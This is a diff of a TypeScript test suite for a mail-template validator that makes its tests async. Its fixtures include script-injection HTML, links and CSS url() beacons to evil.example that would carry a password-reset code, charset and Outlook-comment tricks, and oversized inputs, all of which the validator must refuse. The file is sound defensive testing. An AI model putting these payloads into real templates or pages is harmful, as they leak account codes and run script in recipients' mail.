@@ -6,14 +6,14 @@ import { renderSample } from '../../../src/domain/mail/sample.js';
 import { languageTags } from '../../../src/lib/languages/languages.js';
 import { templateLimits, templateProblems } from '../../../src/domain/mail/template-problems.js';
 
-const problems = (part: 'subject' | 'text' | 'html', template: string, name: (typeof mailNames)[number] = 'password_reset_code') =>
-  templateProblems(name, { [part]: template }).map(({ code, detail, attribute }) => [attribute, code, detail].join(': '));
+const problems = async (part: 'subject' | 'text' | 'html', template: string, name: (typeof mailNames)[number] = 'password_reset_code') =>
+  (await templateProblems(name, { [part]: template })).map(({ code, detail, attribute }) => [attribute, code, detail].join(': '));
 
 describe.each(mailNames)('the built-in text of %s', (name) => {
-  test.each(languageTags)('in %s is what a template may be, and so is the HTML that follows from it', (language) => {
+  test.each(languageTags)('in %s is what a template may be, and so is the HTML that follows from it', async (language) => {
     const builtIn = builtInText(name, language);
     const html = htmlOfText(builtIn.text, variablesOf(name));
-    expect(templateProblems(name, { ...builtIn, html })).toEqual([]);
+    expect(await templateProblems(name, { ...builtIn, html })).toEqual([]);
     expect(builtIn.text.length + html.length).toBeLessThan(templateLimits.text);
     expect(builtIn.subject.length).toBeLessThan(templateLimits.subject);
   });
@@ -50,30 +50,30 @@ test.each([
   [`{{code}}${'{{time}}'.repeat(500)}`, 'invalid_template', 'more than 500'],
   ['Type it in.', 'variable_required', '{{code}} or {{reset_url}}'],
   ['{{#administrator}}{{code}}{{/administrator}}', 'variable_required', 'outside of all sections'],
-])('the text %j is refused as %s (attack 38.775)', (template, code, detail) => {
-  const [first, ...more] = problems('text', template);
+])('the text %j is refused as %s (attack 38.775)', async (template, code, detail) => {
+  const [first, ...more] = await problems('text', template);
   expect(more).toEqual([]);
   expect(first).toContain(`text: ${code}: `);
   expect(first).toContain(detail);
 });
 
-test('lists are refused as text, sections of them in themselves', () => {
+test('lists are refused as text, sections of them in themselves', async () => {
   const text = (template: string) => problems('text', `{{reset_url}}${template}`, 'password_reset_done');
-  expect(text('{{#accounts}}{{.}}{{/accounts}}{{^accounts}}none{{/accounts}}')).toEqual([]);
-  expect(text('{{accounts}}')[0]).toContain('it is a list');
-  expect(text('{{#accounts}}{{#accounts}}{{.}}{{/accounts}}{{/accounts}}')[0]).toContain('inside of itself');
+  expect(await text('{{#accounts}}{{.}}{{/accounts}}{{^accounts}}none{{/accounts}}')).toEqual([]);
+  expect((await text('{{accounts}}'))[0]).toContain('it is a list');
+  expect((await text('{{#accounts}}{{#accounts}}{{.}}{{/accounts}}{{/accounts}}'))[0]).toContain('inside of itself');
 });
 
-test('a list is refused in another one: a mail would grow by their product (attack 38.775)', () => {
+test('a list is refused in another one: a mail would grow by their product (attack 38.775)', async () => {
   const nested = '{{#accounts}}{{#details}}{{.}}{{/details}}{{/accounts}}';
-  expect(problems('text', `{{reset_url}}${nested}`, 'password_reset_done')).toEqual([
+  expect(await problems('text', `{{reset_url}}${nested}`, 'password_reset_done')).toEqual([
     'text: invalid_template: has the list details inside of another one.',
   ]);
 });
 
 test.each(['{{code}}', '{{reset_url}}', 'Your code {{#administrator}}{{code}}{{/administrator}}'])(
   'the subject %j is refused: locked screens show it and relays log it (attack 38.775)',
-  (subject) => expect(problems('subject', subject)[0]).toContain('subjects are shown on locked screens'),
+  async (subject) => expect((await problems('subject', subject))[0]).toContain('subjects are shown on locked screens'),
 );
 
 const refused: [html: string, detail: string][] = [
@@ -112,8 +112,8 @@ const refused: [html: string, detail: string][] = [
   ['<p title="{{#administrator}}">x{{/administrator}}" onclick="alert(1)">', 'variables in title'],
 ];
 
-test.each(refused)('the HTML %j is refused: it has %s (attack 38.776)', (html, detail) => {
-  const [first] = problems('html', `<p>{{code}}</p>\n${html}`);
+test.each(refused)('the HTML %j is refused: it has %s (attack 38.776)', async (html, detail) => {
+  const [first] = await problems('html', `<p>{{code}}</p>\n${html}`);
   expect(first).toMatch(/^html: markup_not_allowed: line \d/);
   expect(first).toContain(detail);
 });
@@ -133,8 +133,8 @@ test.each([
   "<p title='{{#administrator}}'> \" onclick=alert(1) x=\"'{{/administrator}}'>",
   '<a href="https://a.example/{{#administrator}}"></a><a href="javascript:{{/administrator}}alert(1)">',
   '&lt{{#administrator}};{{/administrator}}script><script>',
-])('HTML that is read otherwise when a section is left out is refused: %j (attack 38.776)', (html) => {
-  expect(problems('html', `<p>{{code}}</p>${html}`)[0]).toContain('markup_not_allowed');
+])('HTML that is read otherwise when a section is left out is refused: %j (attack 38.776)', async (html) => {
+  expect((await problems('html', `<p>{{code}}</p>${html}`))[0]).toContain('markup_not_allowed');
 });
 
 test.each([
@@ -148,15 +148,15 @@ test.each([
   'https://evil.example/?c={{#device}}\n{{/device}}{{#ip_address}} and {{/ip_address}}{{code}}',
   '{{#administrator}}https://evil.example/?c={{/administrator}}{{code}}',
   '{{#support_email}}{{support_email}}?body={{code}}{{/support_email}}',
-])('a text is refused of which mail programs make a link that carries the code: %j (attack 38.801)', (text) => {
+])('a text is refused of which mail programs make a link that carries the code: %j (attack 38.801)', async (text) => {
   const told = 'mail programs make a link of it';
-  expect(problems('text', `Your code:\n\n{{code}}\n\n${text}\n`)[0]).toContain(told);
-  expect(problems('html', `<p>{{code}}</p><p>${text}</p>`)[0]).toContain(told);
+  expect((await problems('text', `Your code:\n\n{{code}}\n\n${text}\n`))[0]).toContain(told);
+  expect((await problems('html', `<p>{{code}}</p><p>${text}</p>`))[0]).toContain(told);
 });
 
 test.each(['<p>https:&#47;&#47;evil.example&#x2f;?c=<b>{{code}}</b></p>', '<td>{{code}}<span></span>.evil.example</td>'])(
   'nor does HTML hide it: %s (attack 38.801)',
-  (html) => expect(problems('html', `<p>{{code}}</p>${html}`)[0]).toContain('mail programs make a link of it'),
+  async (html) => expect((await problems('html', `<p>{{code}}</p>${html}`))[0]).toContain('mail programs make a link of it'),
 );
 
 test.each([
@@ -168,22 +168,22 @@ test.each([
   ['dots of other scripts', '{{code}}。evil。example'],
   ['white space that is none to every program', 'https://evil.example/?c=\ufeff{{code}}'],
   ['a no-break space', 'https://evil.example/?c=\u00a0{{code}}'],
-])('a text is refused of which some program makes a link that carries the code, by %s: %j (attack 38.851)', (_, text) => {
-  expect(problems('text', `Your code: {{code}}\n${text}\n`)[0]).toContain('mail programs make a link of it');
-  expect(problems('html', `<p>{{code}}</p><p>${text}</p>`)[0]).toContain('mail programs make a link of it');
+])('a text is refused of which some program makes a link that carries the code, by %s: %j (attack 38.851)', async (_, text) => {
+  expect((await problems('text', `Your code: {{code}}\n${text}\n`))[0]).toContain('mail programs make a link of it');
+  expect((await problems('html', `<p>{{code}}</p><p>${text}</p>`))[0]).toContain('mail programs make a link of it');
 });
 
-test('what stands beside a code without a space is looked at once, however long it is and however many there are (attack 38.850)', () => {
+test('what stands beside a code without a space is looked at once, however long it is and however many there are (attack 38.850)', async () => {
   const sections = ['device', 'ip_address', 'details', 'support_email'].map((name) => `{{#${name}}}x{{/${name}}}`).join('');
   const codes = '{{code}} '.repeat(490);
   const word = (length: number) => `${sections} ${'a'.repeat(length - codes.length - sections.length - 2)} ${codes}`;
   const began = performance.now();
-  expect(problems('text', word(templateLimits.text), 'register_code')).toEqual([]);
-  expect(problems('html', word(templateLimits.html), 'register_code')).toEqual([]);
+  expect(await problems('text', word(templateLimits.text), 'register_code')).toEqual([]);
+  expect(await problems('html', word(templateLimits.html), 'register_code')).toEqual([]);
   expect(performance.now() - began).toBeLessThan(5_000);
 });
 
-test('codes and links stand where languages put them', () => {
+test('codes and links stand where languages put them', async () => {
   for (const text of [
     '您的验证码是{{code}}，有效期{{expires_in}}。',
     'Code: "{{code}}".',
@@ -197,11 +197,11 @@ test('codes and links stand where languages put them', () => {
     'At www.acme.example: {{code}}',
     '{{#administrator}}See https://acme.example/why\n{{/administrator}}\n{{code}}',
   ])
-    expect(problems('text', `{{code}}\n${text}\n`)).toEqual([]);
+    expect(await problems('text', `{{code}}\n${text}\n`)).toEqual([]);
   const html = '<table><tr><td>www.acme.example</td><td>{{code}}</td></tr></table><p><a href="{{reset_url}}">acme.example</a> {{code}}</p>';
-  expect(problems('html', html)).toEqual([]);
+  expect(await problems('html', html)).toEqual([]);
   // Without a code there is nothing to tell.
-  expect(templateProblems('new_sign_in', { text: 'https://acme.example/?back={{account_url}} {{account_url}}' })).toEqual([]);
+  expect(await templateProblems('new_sign_in', { text: 'https://acme.example/?back={{account_url}} {{account_url}}' })).toEqual([]);
 });
 
 test('no line of a text becomes a link with a variable in it', () => {
@@ -220,8 +220,8 @@ test.each([
   ['@font-face { font-family: x; src: url(https://evil.example/1); unicode-range: U+31 }', '@font-face'],
   ['@container (min-width: 40px) { p { background: url(https://evil.example/40) } }', '@container'],
   ['@namespace h "http://www.w3.org/1999/xhtml";', '@namespace'],
-])('a style that tells its server what the mail holds, as soon as it is opened: %s (attack 38.802)', (css, detail) => {
-  const [first] = problems('html', `<style>p { margin: 0 }\n${css}</style><p>{{code}}</p>`);
+])('a style that tells its server what the mail holds, as soon as it is opened: %s (attack 38.802)', async (css, detail) => {
+  const [first] = await problems('html', `<style>p { margin: 0 }\n${css}</style><p>{{code}}</p>`);
   expect(first).toMatch(/^html: markup_not_allowed: line 1/);
   expect(first).toContain(detail);
 });
@@ -237,8 +237,8 @@ test.each([
   ['<style>p { animation-timeline: scroll(self) }</style>', 'animation-timeline in <style>'],
 ])(
   'styles that ask what the mail says, or how much room that takes, are refused wherever they stand: %s (attack 38.852)',
-  (html, detail) => {
-    const [first] = problems('html', `<p>{{code}}</p>${html}`);
+  async (html, detail) => {
+    const [first] = await problems('html', `<p>{{code}}</p>${html}`);
     expect(first).toMatch(/^html: markup_not_allowed: line 1/);
     expect(first).toContain(detail);
   },
@@ -255,49 +255,51 @@ test.each([
   ['<p><!--[if mso]>https://evil.example/?c=<![endif]-->{{code}}</p>', 'make a link of it'],
   ['<p>evil.example/<!--[if mso]> <![endif]-->{{code}}</p>', 'make a link of it'],
   ['<v:rect>x</v:rect>', '<v:rect>'],
-])('what Outlook alone reads as markup follows the same rules, and ends where it began: %s (attack 38.853)', (html, detail) => {
-  expect(problems('html', `<p>{{code}}</p>${html}`)[0]).toContain(detail);
+])('what Outlook alone reads as markup follows the same rules, and ends where it began: %s (attack 38.853)', async (html, detail) => {
+  expect((await problems('html', `<p>{{code}}</p>${html}`))[0]).toContain(detail);
 });
 
-test('what mails have for Outlook is taken', () => {
+test('what mails have for Outlook is taken', async () => {
   for (const html of [
     '<!--[if mso]><table><tr><td><![endif]--><p>x</p><!--[if mso]></td></tr></table><![endif]-->',
     '<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->',
     '<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="https://acme.example/" arcsize="10%"><w:anchorlock/><center>Help</center></v:roundrect><![endif]-->',
     '<!--[if !mso]><!--><p>x</p><!--<![endif]-->',
   ])
-    expect(problems('html', `<p>{{code}}</p>${html}`)).toEqual([]);
+    expect(await problems('html', `<p>{{code}}</p>${html}`)).toEqual([]);
 });
 
 test.each(['<meta charset="utf-7">', '<meta http-equiv="Content-Type" content="text/html;\n charset=iso-2022-jp">'])(
   'another encoding, in which the same bytes are other markup, is refused: %j (attack 38.776)',
-  (html) => expect(problems('html', `${html}<p>{{code}}</p>`)[0]).toContain('mails are in UTF-8'),
+  async (html) => expect((await problems('html', `${html}<p>{{code}}</p>`))[0]).toContain('mails are in UTF-8'),
 );
 
-test('styles that mails have are taken', () => {
+test('styles that mails have are taken', async () => {
   const css = `@media (max-width: 600px) { .wide { width: 100% !important } } @media (prefers-color-scheme: dark) { body { background: #111 } }
     [data-ogsc] .dark { color: #fff } a[x-apple-data-detectors] { color: inherit } u + #body a { color: #000 } [class~="x"], div[style*="margin: 16px 0"] { margin: 0 }`;
-  expect(problems('html', `<style>${css}</style><p style="background: url(https://cdn.acme.example/x.png)">{{code}}</p>`)).toEqual([]);
+  expect(await problems('html', `<style>${css}</style><p style="background: url(https://cdn.acme.example/x.png)">{{code}}</p>`)).toEqual(
+    [],
+  );
 });
 
-test('braces as character references are no tags', () => {
-  expect(problems('html', '<p>{{code}}</p><p>&#123;&#123;code</p>')[0]).toContain('character references');
+test('braces as character references are no tags', async () => {
+  expect((await problems('html', '<p>{{code}}</p><p>&#123;&#123;code</p>'))[0]).toContain('character references');
 });
 
-test('all forms of the longest template are looked at in no time', () => {
+test('all forms of the longest template are looked at in no time', async () => {
   const sections = ['administrator', 'device', 'ip_address', 'support_email'].map((name) => `{{#${name}}}<p>x</p>{{/${name}}}`).join('');
   const html = `<p>{{code}}</p>${sections}`.repeat(20);
   const began = performance.now();
-  expect(problems('html', html + '<p>a b</p>'.repeat(Math.floor((templateLimits.html - html.length) / 10)))).toEqual([]);
+  expect(await problems('html', html + '<p>a b</p>'.repeat(Math.floor((templateLimits.html - html.length) / 10)))).toEqual([]);
   expect(performance.now() - began).toBeLessThan(2_000);
 });
 
-test('tags that are too many are counted before they are read', () => {
+test('tags that are too many are counted before they are read', async () => {
   const deep = '{{#administrator}}'.repeat(2_000) + '{{/administrator}}'.repeat(2_000);
-  expect(problems('html', `{{code}}${deep}`)).toEqual(['html: invalid_template: has more than 500 tags.']);
+  expect(await problems('html', `{{code}}${deep}`)).toEqual(['html: invalid_template: has more than 500 tags.']);
 });
 
-test('the HTML of mails is taken', () => {
+test('the HTML of mails is taken', async () => {
   const html = `<!doctype html>
 <html lang="de"><head><meta charset="utf-8"><title>{{environment_name}}</title><style>p { margin: 0 } a > b { color: red }</style></head>
 <body bgcolor="#fff"><!-- [if mso]>Outlook<![endif] --><table role="presentation" width="100%"><tr><td align="center" style="padding:8px">
@@ -306,8 +308,8 @@ test('the HTML of mails is taken', () => {
 {{#administrator}}<p>Ein Administrator hat das gewünscht.</p>{{/administrator}}{{^administrator}}<p>{{time}}{{#device}}, {{device}}{{/device}}</p>{{/administrator}}
 {{#support_email}}<p><a href="mailto:{{support_email}}">{{support_email}}</a> or <a href="tel:+49301234">call</a></p>{{/support_email}}
 </td></tr></table></body></html>`;
-  expect(problems('html', html)).toEqual([]);
-  expect(problems('html', html.replaceAll('\n', '\r\n'))).toEqual([]);
+  expect(await problems('html', html)).toEqual([]);
+  expect(await problems('html', html.replaceAll('\n', '\r\n'))).toEqual([]);
 });
 
 test('values are escaped in HTML, and links of text become links', () => {
@@ -332,40 +334,40 @@ test('times and lifetimes are words of the template’s language', () => {
   expect(text).toContain('104285 10 Minuten 21. November 2026 um 09:05 UTC');
 });
 
-test('what would be read as deep as it is, or again from each of its characters, is refused at once (attack 38.978)', () => {
+test('what would be read as deep as it is, or again from each of its characters, is refused at once (attack 38.978)', async () => {
   const before = performance.now();
   const code = '{{code}} ';
-  const problemOf = (html: string) => templateProblems('register_code', { html })[0]?.detail;
-  expect(problemOf(code + '<!--[if a]>'.repeat(9_000))).toMatch(/nested-comment|well-formed/);
-  expect(problemOf(`${code}${'<!--[if a]>'.repeat(4_000)}<![endif]-->`)).toMatch(/nested-comment/);
+  const problemOf = async (html: string) => (await templateProblems('register_code', { html }))[0]?.detail;
+  expect(await problemOf(code + '<!--[if a]>'.repeat(9_000))).toMatch(/nested-comment|well-formed/);
+  expect(await problemOf(`${code}${'<!--[if a]>'.repeat(4_000)}<![endif]-->`)).toMatch(/nested-comment/);
   expect(
-    problemOf(
+    await problemOf(
       `${code}<p ${Array.from({ length: 20_000 }, (_, at) => `a${at.toString(36)}`)
         .join(' ')
         .slice(0, 90_000)}>x</p>`,
     ),
   ).toMatch(/has the attribute|more than 100 attributes/);
   expect(
-    problemOf(
+    await problemOf(
       `${code}<p ${Array.from({ length: 101 }, (_, at) => `data-${String.fromCharCode(97 + (at % 26), 97 + Math.floor(at / 26))}`).join(' ')}${' '.repeat(3_000)}>x</p>`,
     ),
   ).toMatch(/more than 100 attributes/);
-  expect(problemOf(`${code}{{${' '.repeat(90_000)}code}}`)).toMatch(/does not end within 100 characters/);
-  expect(problemOf(`${code}{{=x y=}}${'x  '.repeat(20_000)}`)).toMatch(/delimiters/);
+  expect(await problemOf(`${code}{{${' '.repeat(90_000)}code}}`)).toMatch(/does not end within 100 characters/);
+  expect(await problemOf(`${code}{{=x y=}}${'x  '.repeat(20_000)}`)).toMatch(/delimiters/);
   expect(performance.now() - before).toBeLessThan(3_000);
 });
 
-test('sections beside long words are not read in each of their forms: more than can be read in a moment is refused (attack 38.1043)', () => {
+test('sections beside long words are not read in each of their forms: more than can be read in a moment is refused (attack 38.1043)', async () => {
   const names = ['device', 'ip_address', 'origin', 'details'].filter((name) =>
     ['optional', 'list', 'flag'].includes(variablesOf('sign_in_code')[name]?.kind ?? ''),
   );
   expect(names.length).toBeGreaterThan(1);
   const sections = (word: string) => names.map((name) => `{{#${name}}}{{code}}${word}{{/${name}}}`).join('');
-  const [first] = templateProblems('sign_in_code', { html: `<p>{{code}} ${sections('a'.repeat(90_000 / names.length))}</p>` });
+  const [first] = await templateProblems('sign_in_code', { html: `<p>{{code}} ${sections('a'.repeat(90_000 / names.length))}</p>` });
   expect([first?.code, first?.detail]).toEqual(['invalid_template', expect.stringContaining('sections beside long words')]);
   // The same without spaces in styles, which are no words, and with words of people.
   const css = 'p{margin:0}'.repeat(5_000);
-  expect(templateProblems('sign_in_code', { html: `<style>${css}</style><p>{{code}} ${sections(' a'.repeat(5_000) + ' ')}</p>` })).toEqual(
-    [],
-  );
+  expect(
+    await templateProblems('sign_in_code', { html: `<style>${css}</style><p>{{code}} ${sections(' a'.repeat(5_000) + ' ')}</p>` }),
+  ).toEqual([]);
 });
